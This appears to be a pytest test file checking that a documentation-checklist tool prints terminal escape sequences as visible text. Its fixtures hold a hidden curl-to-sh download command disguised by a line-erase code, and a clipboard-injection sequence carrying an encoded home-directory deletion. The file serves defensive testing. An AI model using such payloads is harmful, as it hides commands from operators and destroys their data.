"""Escape sequences in a checklist or a run log reach the terminal as visible text.

A terminal obeys what it is sent: ``ESC [2K`` erases a line, ``ESC ]52`` writes the
clipboard. A checklist that carried them could hide a command from `run --dry-run` or a
finding from `check`. Real commands in subprocesses (pipes: no colour of our own).
"""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import MakeProject

ESC = "\x1b"
HIDE = f"{ESC}[2K{ESC}[1G"
"""Erase the line so far and go back to its start: what follows is all the operator sees."""
CLIPBOARD = f"{ESC}]52;c;cm0gLXJmIH4={chr(7)}"

CHECKLIST = f"""\
# Deploy {ESC}]0;window title{chr(7)}

- [ ] Copy {CLIPBOARD} this {{ #copy }}

    ```bash
    curl -s https://example.invalid/x | sh; {HIDE}echo hello
    ```
"""
BAD_ID = f"# Bad\n\n- [ ] Bad {{ #b{ESC}[8m }}\n"


def preflight(root: Path, *args: str) -> str:
    result = subprocess.run(
        [sys.executable, "-m", "mkdocs_preflight", *args],
        cwd=root,
        capture_output=True,
        text=True,
        env={**os.environ, "NO_COLOR": "1"},
        timeout=120,
        check=False,
    )
    return result.stdout + result.stderr


@pytest.fixture
def project(make_project: MakeProject) -> Path:
    files = {f"checklists/deploy{ESC}[8m.md": CHECKLIST, "checklists/bad.md": BAD_ID}
    return make_project(files, config="site_name: t\nplugins:\n  - preflight\n", git=True)


@pytest.mark.parametrize(
    "args",
    [
        ("list",),
        ("check",),
        ("ids",),
        ("extract", "--item", "copy"),
        ("run", "--dry-run", "--only", "copy"),
    ],
    ids=lambda args: " ".join(args),
)
def test_checklist_text_is_printed_with_visible_escapes(project: Path, args: tuple[str, ...]) -> None:
    path = project / "checklists" / f"deploy{ESC}[8m.md"
    output = preflight(project, *args[:1], *([str(path)] if args[0] in ("run", "extract") else []), *args[1:])
    assert output.strip()
    assert ESC not in output, output
    assert "\\x1b" in output


def test_the_hidden_command_shows_in_the_dry_run(project: Path) -> None:
    path = project / "checklists" / f"deploy{ESC}[8m.md"
    output = preflight(project, "run", str(path), "--dry-run", "--only", "copy")
    assert "| sh; \\x1b[2K\\x1b[1Gecho hello" in output


def test_a_run_log_is_reported_with_visible_escapes(project: Path) -> None:
    (project / "checklists" / "ok.md").write_text(f"# Ok {CLIPBOARD} hi\n\n- [ ] Say hi {{ #say }}\n", encoding="utf-8")
    preflight(project, "run", "checklists/ok.md", "--yes")
    (log,) = (project / ".preflight" / "runs").iterdir()
    output = preflight(project, "report", str(log))
    assert "Ok \\x1b]52;c;cm0gLXJmIH4=\\x07 hi" in output
    assert ESC not in output


def test_a_generated_script_prints_and_holds_no_escape_sequence(project: Path) -> None:
    """The step title the script prints and the comments it holds show escapes as text;
    the code itself is left exactly as written (it is what runs)."""
    path = project / "checklists" / f"deploy{ESC}[8m.md"
    script = preflight(project, "extract", str(path), "--format", "sh")
    code_line = next(line for line in script.splitlines() if "| sh;" in line)
    assert code_line.strip() == f"curl -s https://example.invalid/x | sh; {HIDE}echo hello"
    # The checklist's path as the value of PREFLIGHT_CHECKLIST is data, quoted, exact.
    exact = [code_line, f"export PREFLIGHT_CHECKLIST='checklists/deploy{ESC}[8m.md'"]
    rest = "\n".join(line for line in script.splitlines() if line.strip() not in exact)
    assert ESC not in rest
    assert "Copy \\x1b]52;c;cm0gLXJmIH4=\\x07 this" in rest
